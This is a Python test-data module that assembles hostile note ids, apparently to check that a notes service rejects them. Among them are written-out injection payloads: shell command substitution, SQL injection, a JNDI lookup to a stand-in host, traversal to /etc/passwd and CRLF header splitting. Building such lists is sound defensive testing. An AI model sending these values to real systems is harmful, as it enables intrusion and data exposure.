"""Ids that no note can have, and that somebody might try all the same."""

from urllib.parse import quote

_CONTROL_CHARACTERS = [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))]
# What looks like a letter or a digit, is white space, or changes how text is written or sorted.
_OTHER_CHARACTERS = list(
    "\u0430\u0455\u0131\u017f\u212a\uff41\uff11\u0661\u0967\u00b2\u2160\u00e9\u00df\u4e00\U0001f600"
    "\u00a0\u1680\u2003\u2028\u2029\u202f\u3000\ufeff\u200b\u200d\u200e\u202e\u2066\u00ad\u0301"
    "\ufe0f\U000e0061\ufffd\uffff\ud800\udfff"
)
_SIGNS = list(" !\"#$%&'()*+,./:;<=>?@[\\]^`{|}~")
_PATHS = [
    *(".", "..", "...", "../", "../notes", "../admin", "..\\admin", "./note1", "note1/", "/note1"),
    *("note1/..", "note1/restore", "note1/../note2", "//note1", "/etc/passwd", "C:\\note1"),
    *("{noteid}", "{proxy+}", "*", "$default", "prod/notes/note1", "https://evil.example/"),
]
_INJECTED = [
    *(
        "' OR '1'='1",
        '" OR ""="',
        "note1' --",
        "{$gt: 1}",
        '{"S": "note1"}',
        "${noteid}",
        "{{7*7}}",
    ),
    *("$(id)", "`id`", "; ls", "| ls", "<script>", "%s%n", "${jndi:ldap://evil.example}", "()"),
    *("\r\nSet-Cookie: a=b", "\r\n\r\nHTTP/1.1 200 OK", "note1\nnote2", "note1?permanent=true"),
    *("note1#fragment", "note1;v=1", "note1&x=1", "=1+1", "@note1", "null\x00.txt"),
]
_FORMS = ["", "-", "_", "-note1", "_note1", " note1", "note1 ", "x" * 65, "x" * 1024, "x" * 10_000]
_ENCODED = [quote(quote(path, safe=""), safe="") for path in ("../admin", "note1/x", "\x00", "..")]

HOSTILE_IDS = list(
    dict.fromkeys(
        [
            *_FORMS,
            *_PATHS,
            *_INJECTED,
            *_ENCODED,
            *(f"note{character}1" for character in (*_CONTROL_CHARACTERS, *_OTHER_CHARACTERS)),
            *(f"note{sign}1" for sign in _SIGNS),
            *(f"note1{character}" for character in "\n\r\t\x00\u2028"),
            *(quote(path, safe="") for path in _PATHS if quote(path, safe="") != path),
        ]
    )
)
